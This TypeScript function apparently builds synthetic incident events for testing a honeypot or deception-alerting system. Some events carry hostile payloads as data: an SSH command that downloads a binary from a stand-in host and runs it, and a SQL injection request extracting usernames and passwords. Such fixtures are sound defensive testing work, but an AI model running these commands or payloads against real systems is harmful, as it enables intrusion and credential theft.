/** Many incidents of several kinds, each of a source of its own; the last one is the latest. */
export function incidentEvents(nowMs: number, count: number): object[] {
  const at = (n: number, second = 0): string =>
    new Date(nowMs - (count - n) * 20_000 + second * 1000).toISOString();
  return Array.from({ length: count }, (_, n) => {
    const source_ip = `203.0.113.${n + 1}`;
    if (n % 3 === 0)
      return [
        {
          event_id: `touch-${n}`,
          timestamp: at(n),
          hostname: `fin-laptop-${String(n + 1).padStart(2, '0')}`,
          username: 'j.doe',
          file_accessed: 'passwords-2026.xlsx',
          file_path: 'C:\\Users\\j.doe\\Documents\\passwords-2026.xlsx',
          action: 'COPIED',
          severity: 'CRITICAL',
          alert_type: 'decoy_access',
          process_name: 'powershell.exe',
        },
      ];
    if (n % 3 === 1) {
      const ssh = (second: number, activity: string, payload: string, extra: object = {}) => ({
        event_id: `ssh-${n}-${second}`,
        timestamp: at(n, second),
        service: 'ssh',
        source_ip,
        activity,
        payload,
        extra: { session: `visit-${n}`, ...extra },
      });
      return [
        ...['123456', 'admin', 'root'].map((password, second) =>
          ssh(second, 'login failed', `root:${password}`, { username: 'root', password }),
        ),
        ssh(4, 'login succeeded', 'root:dragon', { username: 'root', password: 'dragon' }),
        ssh(5, 'command', 'cd /tmp && wget http://198.51.100.99/bins/x86 -O .x && chmod +x .x && ./.x'),
      ];
    }
    return [
      {
        event_id: `web-${n}`,
        timestamp: at(n),
        service: 'http',
        source_ip,
        activity: 'http request',
        payload: `GET /products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20- HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: sqlmap/1.8\r\n\r\n`,
      },
    ];
  }).flat();
}
